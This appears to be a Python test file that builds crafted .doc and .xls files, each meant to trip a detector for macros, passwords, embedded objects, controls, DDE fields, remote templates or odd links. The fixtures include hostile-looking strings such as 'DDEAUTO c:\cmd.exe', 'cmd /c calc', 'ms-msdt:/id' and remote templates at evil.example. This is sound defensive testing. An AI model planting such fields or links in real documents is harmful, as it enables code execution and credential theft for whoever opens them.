"""DOC and XLS: macros, passwords, embedded things, links and fields."""

import struct
from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import attack


def _with_streams(content: bytes, random: Random, *names: str) -> bytes:
    more = {name: random.randbytes(random.randrange(20, 9000)) for name in names}
    return files.compound({**files.streams(content), **more})


@attack("old macros", refusals.Macros, ".doc", ".xls")
def old_vba(content: bytes, random: Random) -> bytes:
    place = random.choice(["Macros/VBA", "_VBA_PROJECT_CUR/VBA", "MACROS/vba"])
    return _with_streams(content, random, f"{place}/_VBA_PROJECT", f"{place}/dir", f"{place}/ThisDocument")


@attack("old macros", refusals.Macros, ".xls")
def old_macro_sheet(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    sheet = struct.pack("<LBBBB", 100, random.randrange(3), random.choice([1, 6]), 1, 0) + b"m"
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x85, sheet))})


@attack("old encrypted", refusals.PasswordProtected, ".xls")
def old_password_excel(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    book = streams["Workbook"]
    first = 4 + struct.unpack_from("<H", book, 2)[0]
    made = book[:first] + files.records((0x2F, random.randbytes(54))) + book[first:]
    return files.compound({**streams, "Workbook": made})


@attack("old encrypted", refusals.PasswordProtected, ".doc")
def old_password_word(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    made = bytearray(streams["WordDocument"])
    made[0x0B] |= random.choice([0x01, 0x81])
    return files.compound({**streams, "WordDocument": bytes(made)})


@attack("old embedded", refusals.Embedded, ".doc", ".xls")
def old_ole_object(content: bytes, random: Random) -> bytes:
    name = random.choice([f"ObjectPool/_{random.randrange(10**9)}/\x01CompObj", "MBD0018D4CE/\x01Ole10Native",
                          "ObjectPool/_1/\x01Ole10Native", "LNK00000001/\x01Ole", "x/Package"])  # fmt: skip
    return _with_streams(content, random, name)


@attack("old controls", refusals.Controls, ".doc", ".xls")
def old_controls(content: bytes, random: Random) -> bytes:
    return _with_streams(content, random, random.choice(["Ctls", "a/\x03OCXNAME"]))


@attack("old links", refusals.LinkedWorkbook, ".xls")
def old_external_book(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    path = random.choice(["\x01\x01Cx.xls", "\x01\x05http://evil.example/a.xls", "cmd\x03/c calc"])
    book = struct.pack("<HHB", 1, len(path), 0) + path.encode()
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x1AE, book))})


@attack("old fields", refusals.CommandField, ".doc")
def old_dde_field(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    code = random.choice(["\x13DDEAUTO c:\\cmd.exe\x14", "\x13 DDE excel a\x14", '\x13 "ddeauto" cmd\x15'])
    raw = code.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


@attack("old links", refusals.LinkedContent, ".doc")
def old_field_that_fetches(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    code = random.choice(["\x13INCLUDEPICTURE http://a/b\x14", "\x13 INCLUDETEXT a\x14", "\x13LINK Excel.Sheet\x14",
                          '\x13 INCLUDEPICTURE  "\\\\\\\\evil\\\\a"\x14'])  # fmt: skip
    raw = code.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


OLD_ODD = ("javascript:alert(1)", "VBScript:a", "\\\\evil\\share", "ms-msdt:/id")


@attack("old links", refusals.OddLink, ".doc")
def old_field_whose_link_acts(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    raw = f'\x13 HYPERLINK "{random.choice(OLD_ODD)}"\x14'.encode(random.choice(["cp1252", "utf-16-le"]))
    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})


@attack("old links", refusals.OddLink, ".xls")
def old_link_that_acts(content: bytes, random: Random) -> bytes:
    """MS-XLS 2.4.140: cells, a class, then the monikers."""
    streams = files.streams(content)
    place = random.choice(OLD_ODD).encode(random.choice(["cp1252", "utf-16-le"]))
    link = bytes(8) + bytes(16) + struct.pack("<LLL", 2, 3, len(place)) + place
    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x1B8, link))})


@attack("old links", refusals.RemoteTemplate, ".doc")
def old_template_from_outside(content: bytes, random: Random) -> bytes:
    streams = files.streams(content)
    document, table = bytearray(streams["WordDocument"]), "1Table" if "1Table" in streams else "0Table"
    strings = b"\xff\xff\x02\0\0\0\0\0"
    place = random.choice(["http://evil.example/a.dot", "\\\\evil\\a.dot", "https://evil.example/b.dotm"])
    strings += struct.pack("<H", len(place)) + place.encode("utf-16-le")
    struct.pack_into("<LL", document, 0x19A, len(streams[table]), len(strings))
    return files.compound({**streams, "WordDocument": bytes(document), table: streams[table] + strings})
